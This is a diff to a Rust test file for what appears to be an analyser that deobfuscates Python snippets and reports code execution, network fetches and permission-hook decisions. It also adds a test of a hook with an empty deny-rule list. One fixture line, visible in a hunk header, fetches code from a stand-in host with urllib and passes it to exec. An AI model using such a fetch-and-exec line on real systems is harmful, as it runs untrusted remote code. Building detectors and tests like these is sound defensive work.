@@ -50,7 +50,7 @@ exec(__import__("urllib.request", fromlist=["x"]).urlopen("https://p.example/s")
     has(
         &lines,
         &[
-            "0 code python3 <- Base64, Compressed",
+            "0 code python3 -c print('hello hello hello hello') <- Base64, Compressed",
             "0 runs python: print('hello hello hello hello')",
         ],
     );
@@ -58,14 +58,14 @@ exec(__import__("urllib.request", fromlist=["x"]).urlopen("https://p.example/s")
         &lines,
         &[
             "1 runs python: print(1)",
-            "2 code python3 <- Substituted",
-            "3 code python3 <- Escapes",
+            "2 code python3 -c print(1) <- Substituted",
+            "3 code python3 -c pass <- Escapes",
         ],
     );
-    has(&lines, &["4 code python3 <- Reversed", "5 code python3 <- Hex"]);
+    has(&lines, &["4 code python3 -c pass <- Reversed", "5 code python3 -c pass <- Hex"]);
     assert!(lines.contains("connect Fetch https://p.example/s"), "{lines}");
     assert!(
-        lines.lines().any(|l| l.starts_with("7 code? python3 <- 6")),
+        lines.lines().any(|l| l.starts_with("7 code? python3 -c … <- 6")),
         "{lines}"
     );
 }
@@ -147,6 +147,18 @@ print(json.dumps({"hookSpecificOutput": {"permissionDecision": answer}}))
             "1 setting hook.permission-decision allow",
         ],
     );
+    let lines = py(r#"
+import json, re
+RULES = []
+def decide(command):
+    rules = [r for r in RULES if r]
+    if any(re.search(r, command) for r in rules):
+        return "deny"
+    return "allow"
+print(json.dumps({"permissionDecision": decide(input())}))
+"#);
+    assert_eq!(lines.lines().next(), Some("0 setting hook.permission-decision allow"), "{lines}");
+    assert!(!lines.contains("deny"), "{lines}");
     let lines = py(r#"
 import json, sys
 json.dump({"hookSpecificOutput": {"decision": {"behavior": "deny", "message": f"{x}"}}}, sys.stdout)
